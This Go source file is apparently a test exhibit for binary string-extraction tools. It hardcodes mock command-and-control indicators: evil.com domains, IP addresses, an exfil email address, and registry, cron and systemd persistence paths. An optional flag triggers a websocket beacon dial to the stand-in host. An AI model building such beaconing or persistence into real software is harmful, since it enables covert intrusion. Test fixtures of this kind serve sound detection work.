// cmd/c2-demo/main.go
// C2 communication exhibit with hardcoded indicator strings. Exercises
// string extraction from compiled binaries: every address, domain, path and
// registry key below is a benign test IOC that analyzers are expected to
// recover. By default nothing touches the network; -connect performs one
// doomed websocket handshake so the transport symbols land in the binary's
// call graph too.
package main

import (
	"flag"
	"fmt"
	"log"
	"net/http"
	"runtime"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"
)

// Hardcoded C2 server configuration.
const (
	primaryC2Server = "192.168.100.50"
	backupC2Server  = "10.0.2.15"
	c2Domain        = "malware-c2.evil.com"
	c2Subdomain     = "beacon.command-control.badguys.org"

	c2UserAgent = "Mozilla/5.0 BotNet/1.0"
	exfilEmail  = "stolen-data@evil-corp.com"
)

var c2Paths = []string{
	"/api/beacon",
	"/cmd/poll",
	"/data/exfil",
}

func main() {
	connect := flag.Bool("connect", false, "attempt one real websocket handshake (will fail)")
	flag.Parse()

	agentID := uuid.NewString()
	fmt.Println("Connecting to C2 server...")
	fmt.Printf("Agent ID: %s\n", agentID)

	beaconURL := fmt.Sprintf("ws://%s:8080%s", c2Domain, c2Paths[0])

	// More indicators in locals so they survive into the data sections.
	backupURL := "https://10.10.10.10:443/malware/update"
	dataEndpoint := "ftp://198.51.100.0/dropzone"

	fmt.Printf("Primary: %s\n", primaryC2Server)
	fmt.Printf("Backup: %s\n", backupC2Server)
	fmt.Printf("Domain: %s\n", c2Domain)
	fmt.Printf("Subdomain: %s\n", c2Subdomain)
	fmt.Printf("URL: %s\n", beaconURL)
	fmt.Printf("Fallback: %s %s\n", backupURL, dataEndpoint)
	fmt.Printf("User-Agent: %s\n", c2UserAgent)
	fmt.Printf("Exfil: %s\n", exfilEmail)

	if runtime.GOOS == "windows" {
		fmt.Printf("Registry: %s\n", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\EvilBot`)
		fmt.Printf("Path: %s\n", `C:\Windows\System32\evil.dll`)
	} else {
		fmt.Printf("Cron: %s\n", "/etc/cron.d/evil-persistence")
		fmt.Printf("Service: %s\n", "/etc/systemd/system/backdoor.service")
	}

	if *connect {
		beacon(beaconURL, agentID)
	}
}

// beacon attempts a single check-in. The target does not exist; the point is
// a realistic dial path in the binary, not a conversation.
func beacon(url, agentID string) {
	dialer := websocket.Dialer{HandshakeTimeout: 2 * time.Second}
	header := http.Header{}
	header.Set("User-Agent", c2UserAgent)
	header.Set("X-Agent-ID", agentID)

	conn, _, err := dialer.Dial(url, header)
	if err != nil {
		log.Printf("beacon failed (expected): %v", err)
		return
	}
	conn.Close()
}
